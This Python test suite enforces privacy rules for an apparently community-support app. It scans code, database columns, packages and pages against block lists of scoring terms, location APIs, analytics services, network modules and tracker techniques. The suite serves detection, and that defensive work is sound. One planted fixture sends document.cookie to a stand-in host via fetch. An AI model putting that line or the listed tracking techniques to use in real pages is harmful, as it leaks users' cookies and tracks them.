"""Nevers of code and data: what no name, no column, no package and no page may be there for."""

import re

import pytest

from tests.nevers.searching import (
    code,
    columns,
    columns_with,
    importers_of,
    in_texts,
    installed,
    names_with,
    packages,
    page_sources,
    spoken,
)

# ---------------------------------------------------------------- 42: nobody is scored, nobody ranked

SCORING = re.compile(
    r"risks?|risky|scor(e|es|ed|ing)|severity|predict\w*|sentiments?|moods?|likelihood|probabilit\w+|classif\w+"
    r"|triage\w*|diagnos\w+|vulnerab\w+|acuity|psych\w*"
)
RANKING = re.compile(r"rank(s|ed|ing|ings)?|rat(ing|ings)|leaderboards?|reputation|karma|stars?|percentile")
# A rank of reports about one message: how much each of them tells.
RANKS_OF_REPORTS = {
    ("src/nightlight/engine/receipts.py", "rank"),
    ("src/nightlight/engine/receipts.py", "_RANK"),
}
# How a database calls its own word about a statement, and how grave that word is: of nobody.
WORDS_OF_A_DATABASE = {
    ("src/nightlight/store/postgresql/connection.py", "Diagnostic"),
    ("src/nightlight/store/postgresql/connection.py", "severity_nonlocalized"),
}
LEARNING = re.compile(
    r"(torch|tensorflow|keras|scikit|sklearn|xgboost|lightgbm|transformers|nltk|spacy|textblob|vader|gensim|openai"
    r"|anthropic|langchain|llama|sentence.transformers|fasttext|onnx|cohere|mistralai|huggingface)[\w.-]*",
    re.IGNORECASE,
)


def test_n42_scores_nothing_in_the_code_judges_anybody() -> None:
    """No risk, no band, no prediction, no reading of moods: not as a name, not as a column."""
    assert set(names_with(SCORING, code())) - WORDS_OF_A_DATABASE == set()
    assert columns_with(SCORING, columns()) == []


def test_n42_scores_nothing_is_installed_that_could() -> None:
    """No part that learns, classifies or reads moods comes along with ours."""
    assert [name for name in installed() if LEARNING.fullmatch(name)] == []


def test_n42_ranking_nobody_is_put_in_an_order_of_worth() -> None:
    """Who is asked first is what was agreed, or whose turn it is: never who is better at it."""
    assert set(names_with(RANKING, code())) - RANKS_OF_REPORTS == set()
    assert columns_with(RANKING, columns()) == []


def test_a_score_would_be_found() -> None:
    planted = {"a.py": "def riskScore(person): return row['severity'] + Person(mood=1).predicted"}

    assert [name for _, name in names_with(SCORING, planted)] == [
        "mood",
        "predicted",
        "riskScore",
        "severity",
    ]
    assert names_with(RANKING, {"a.py": "people.order_by('-helper_rank')"}) == [("a.py", "-helper_rank")]
    assert columns_with(SCORING, {"person.risk_band", "person.name"}) == ["person.risk_band"]
    found = packages("scikit-learn==1.5 \\\n    --hash=sha256:x\ndjango==5\n")
    assert [name for name in found if LEARNING.fullmatch(name)] == ["scikit-learn"]


# ------------------------------------------------ nobody's answers are counted, nobody's speed is known

COUNTING = re.compile(
    r"counts?|counter|times|total|average|mean|median|fastest|slowest|speed|streaks?|missed"
)
TALLIES = {
    "reply_try.count",  # wrong digits from one address in one call: a lock, not a record of a person
}


def test_d11_response_times_no_table_keeps_how_often_or_how_fast_somebody_answers() -> None:
    """What is not kept cannot be shown, compared or held against anybody."""
    assert set(columns_with(COUNTING, columns())) - TALLIES == set()
    assert columns_with(COUNTING, {"membership.answers_count", "person.average_seconds"}) == [
        "membership.answers_count",
        "person.average_seconds",
    ]


def test_n66_streaks_no_name_and_no_column_counts_days() -> None:
    """No streak, no badge, no milestone, no days since."""
    words = re.compile(r"streaks?|badges?|milestones?|confetti|rewards?|achievements?|gamif\w+")

    assert names_with(words, code()) == []
    assert columns_with(words, columns()) == []
    assert names_with(words, {"a.py": "streak_days = 3"}) == [("a.py", "streak_days")]


# --------------------------------------------------------------------------- 31: nobody is located

PLACES = re.compile(
    r"lat|latitude|lon|lng|longitude|geo\w*|gps|coordinates?|locat(ion|ions|ed|or)|whereabouts"
)
LOCATING = re.compile(
    r"geolocation|getCurrentPosition|watchPosition|coords\.|maps?\.google|openstreetmap", re.IGNORECASE
)
LOCATORS = re.compile(r"geoip\w*|maxminddb|geopy|geocod\w+|ip2location|pygeoip|django-ipware", re.IGNORECASE)


def test_n31_location_none_is_asked_for_kept_or_guessed() -> None:
    """Where somebody is, only they say, in words, to whom they choose."""
    assert names_with(PLACES, code()) == []
    assert columns_with(PLACES, columns()) == []
    assert in_texts(LOCATING, page_sources()) == []
    assert [name for name in installed() if LOCATORS.fullmatch(name)] == []


def test_n31_location_no_address_of_a_device_is_kept() -> None:
    """An address on the network says roughly where somebody is, so no table has one."""
    words = re.compile(r"ip|remote|hostname|agent|device|browser|fingerprint")

    assert columns_with(words, columns()) == []
    assert columns_with(words, {"person_link.last_ip"}) == ["person_link.last_ip"]


def test_a_locator_would_be_found() -> None:
    assert names_with(PLACES, {"a.py": "Person(last_location=x)"}) == [("a.py", "last_location")]
    assert columns_with(PLACES, {"person.lat"}) == ["person.lat"]
    assert in_texts(LOCATING, {"live.js": "navigator.geolocation.watchPosition(f)"})


# ------------------------------------------------------------- 14: nobody's address book, no discovery

BOOKS = re.compile(
    r"navigator\.contacts|ContactsManager|type=.?file|multipart/form-data|FileReader|text/vcard|\.vcf\b",
    re.IGNORECASE,
)
BOOK_NAMES = re.compile(r"vcards?|vobject|vcf|addressbooks?|carddav", re.IGNORECASE)
LOOKING_UP = ("nightlight.store.sealing.look_up_hash", "nightlight.store.sealing.look_up_hashes")
LOOKED_UP_BY = {
    "src/nightlight/bench/holding.py",  # one made-up number in a database that is thrown away
    "src/nightlight/simulator/settling.py",  # made-up people in a database in memory
    "src/nightlight/simulator/years_settling.py",  # likewise
    "src/nightlight/store/circles.py",  # the host's file: is this way known, was it ended, is it never contacted
    "src/nightlight/store/consent.py",  # never contact
    "src/nightlight/store/effects.py",  # beside a message that is planned
    "src/nightlight/store/erasure.py",  # to be forgotten everywhere
    "src/nightlight/store/hosts.py",  # the host's own ways
    "src/nightlight/store/inbound.py",  # a reply, to one who was asked
    "src/nightlight/store/joining.py",  # a yes with an address that is never contacted, or is in this circle already
    "src/nightlight/store/keeping_away.py",  # never contact, as its owner keeps it
    "src/nightlight/store/resealing.py",  # after a change of keys
    "src/nightlight/store/supporting.py",  # one's own link: the answer never differs, the link goes to that address alone
    "src/nightlight/store/ways.py",  # whether a person has this way already, among their own alone
}


def test_n14_contacts_no_page_takes_an_address_book() -> None:
    """Nothing is uploaded, nothing is read from a phone: people come one by one, having agreed."""
    assert in_texts(BOOKS, page_sources()) == []
    assert names_with(BOOK_NAMES, code()) == []
    assert [where for where, _ in names_with(re.compile("files"), code()) if "/web/views/" in where] == []


def test_an_upload_would_be_found() -> None:
    assert in_texts(BOOKS, {"a.html": '<form enctype="multipart/form-data"><input type="file">'})
    assert in_texts(BOOKS, {"a.js": "await navigator.contacts.select(['tel'])"})
    assert names_with(re.compile("files"), {"/web/views/a.py": "request.FILES['book']"})


def test_n14_discovery_no_page_and_no_command_finds_people_by_their_number() -> None:
    """Who has a number cannot ask whether its owner is here."""
    assert importers_of(LOOKING_UP, code()) == LOOKED_UP_BY


def test_a_new_look_up_would_be_found() -> None:
    planted = "from nightlight.store.sealing import look_up_hash, seal"

    assert importers_of(LOOKING_UP, {"web/find.py": planted, "web/ok.py": "import json"}) == {"web/find.py"}


# ------------------------------------------ 43: what people say is used for what they said it for

OUTWARD = (
    "aiohttp", "ftplib", "http.client", "httpx", "imaplib", "poplib", "pycurl", "requests", "smtplib", "socket",
    "ssl", "telnetlib", "urllib.request", "urllib3", "websocket", "websockets", "xmlrpc",
)  # fmt: skip
SPEAKS_OUTWARD = {
    "src/nightlight/bench/processes.py",  # a free port, for processes with made-up people
    "src/nightlight/channels/baresip.py",  # a phone of our own, over its control socket on this machine
    "src/nightlight/channels/deadline.py",  # under every gateway
    "src/nightlight/channels/http_call.py",
    "src/nightlight/channels/mail_imap.py",  # a mailbox, only read
    "src/nightlight/channels/outside.py",  # the same, where a person named the place
    "src/nightlight/channels/smtp.py",
    "src/nightlight/channels/voice_sip.py",  # whether anybody listens at the trunk
    "src/nightlight/cli/listening.py",  # binds the port that pages are served on
    "src/nightlight/cli/trying.py",  # the same, for the sample
    "src/nightlight/intake/doctor.py",  # whether a provider can be reached; nothing is said
    "src/nightlight/store/wake.py",  # another process on this machine
    "src/nightlight/web/server.py",  # answers whoever asks, on the port that was bound for it
    "src/nightlight/worker/liveness.py",  # the outside watch: a GET without anything in it
    "src/nightlight/worker/loop.py",  # the machine's name, for its own record
    "src/nightlight/worker/wakeup.py",  # another process on this machine
}
REPORTING = re.compile(
    r"(sentry|raven|posthog|mixpanel|segment|analytics|newrelic|datadog|ddtrace|bugsnag|rollbar|amplitude|statsd"
    r"|opentelemetry|google.cloud|boto3|azure|kafka|snowflake|matomo|plausible)[\w.-]*",
    re.IGNORECASE,
)
TRACKERS = re.compile(
    r"google-analytics|googletagmanager|gtag\(|fbq\(|facebook|doubleclick|hotjar|matomo|plausible\.io|sendBeacon"
    r"|localStorage|sessionStorage|indexedDB|document\.cookie|canvas\.toDataURL|navigator\.(plugins|userAgent)",
    re.IGNORECASE,
)
SEALED = "/static/sealed/"
KEEPING = re.compile(r"/static/(sw|sealed/[\w-]+)\.js$")
"""Scripts of a person's own pages: a browser keeps the sealed plan and a call that did not get out, and nobody gets it."""
KEPT_BY = {"indexedDB", "navigator.userAgent", "facebook"}
"""Where it lies; whether this is an iPhone, for the person's own list of phones; and one of the words drawn for a plan."""
ELSEWHERE = re.compile(
    r"(src|href|action|srcset|poster|data|formaction|ping)\s*=\s*[\"']?\s*(https?:)?//[^\s\"'>]+"
    r"|@import|url\(\s*[\"']?(https?:)?//[^)]+|(fetch|open|importScripts|import)\(\s*[\"'`](https?:)?//[^\"'`]+",
    re.IGNORECASE,
)


def test_n43_content_goes_out_by_channels_and_nowhere_else() -> None:
    """No analytics, no research feed, no training: the modules that can speak to another machine are these."""
    assert importers_of(OUTWARD, code()) == SPEAKS_OUTWARD


def test_n43_content_nothing_is_installed_that_reports_it() -> None:
    """No part that sends reports of errors or of use to anybody."""
    assert [name for name in installed() if REPORTING.fullmatch(name)] == []


def test_n43_trackers_no_page_fetches_from_elsewhere_or_remembers_its_reader() -> None:
    """A page of a call is nobody else's business: no tracker, no font, no script of others, no mark left."""
    assert in_texts(ELSEWHERE, page_sources()) == []
    found = in_texts(TRACKERS, page_sources())
    assert [each for each in found if not (KEEPING.search(each[0]) and each[1] in KEPT_BY)] == []


@pytest.mark.django_db
def test_n43_trackers_no_page_that_is_shown_does(pages: dict[str, str]) -> None:
    """The same, of the pages of a whole night as a browser gets them."""
    assert len(spoken(pages)) > 20
    assert in_texts(ELSEWHERE, pages) == []
    assert in_texts(TRACKERS, pages) == []


def test_a_tracker_would_be_found() -> None:
    planted = {
        "page": '<img src="https://example.com/p.gif"><script src=//example.com/t.js></script>',
        "style": "@import url(https://example.com/f.css); a { background: url('//example.com/x') }",
        "script": "fetch('https://example.com/' + document.cookie); navigator.sendBeacon(u)",
    }

    assert {where for where, _ in in_texts(ELSEWHERE, planted)} == {"page", "style", "script"}
    assert len(in_texts(TRACKERS, planted)) == 2
    assert importers_of(OUTWARD, {"store/a.py": "from urllib.request import urlopen"}) == {"store/a.py"}
    assert importers_of(OUTWARD, {"store/a.py": "from urllib.parse import urlsplit"}) == set()
    found = packages("sentry-sdk==2.0 \\\nurllib3==2\n")
    assert [name for name in found if REPORTING.fullmatch(name)] == ["sentry-sdk"]


# --------------------------------------------------- §11: nobody calls the police by machine

EMERGENCY_READ_BY = {
    "src/nightlight/intake/circle_file.py",
    "src/nightlight/intake/circle_writing.py",
    "src/nightlight/store/circles.py",
    "src/nightlight/store/circles_read.py",
    "src/nightlight/store/entries.py",
    "src/nightlight/store/models/host.py",
    "src/nightlight/store/page_queries.py",
    "src/nightlight/web/numbers.py",
}


def test_d11_police_what_sends_does_not_know_the_emergency_number() -> None:
    """It is read from the host's file and shown on pages; nothing that decides or sends has it in hand."""
    readers = {where for where, _ in names_with(re.compile("emergency"), code())}

    assert readers == EMERGENCY_READ_BY
    assert not [where for where in readers if re.search(r"/(engine|channels|worker)/", where)]
    assert names_with(re.compile("emergency"), {"worker/a.py": "host.emergency_number"})


def test_d11_police_no_script_dials() -> None:
    """A number on a page is a link somebody presses; no script presses it."""
    dialling = re.compile(
        r"tel:|\.click\(\)|location\.(href\s*=[^=]|assign|replace)|window\.open|http-equiv=.?refresh"
    )
    scripts = {name: text for name, text in page_sources().items() if name.endswith((".js", "base.html"))}

    assert scripts
    # Quick exit leads to a web address of the host's, which config.py checks to be one.
    leaving = ("src/nightlight/web/static/exit.js", "location.replace")
    # The plan's scripts go to pages of ours, and hand over a file; none of them knows what would dial.
    going = {"location.replace", ".click()"}
    found = {each for each in in_texts(dialling, scripts) if not (SEALED in each[0] and each[1] in going)}
    assert found - {leaving} == set()
    assert in_texts(dialling, {"a.js": 'location.href = "tel:112"'})
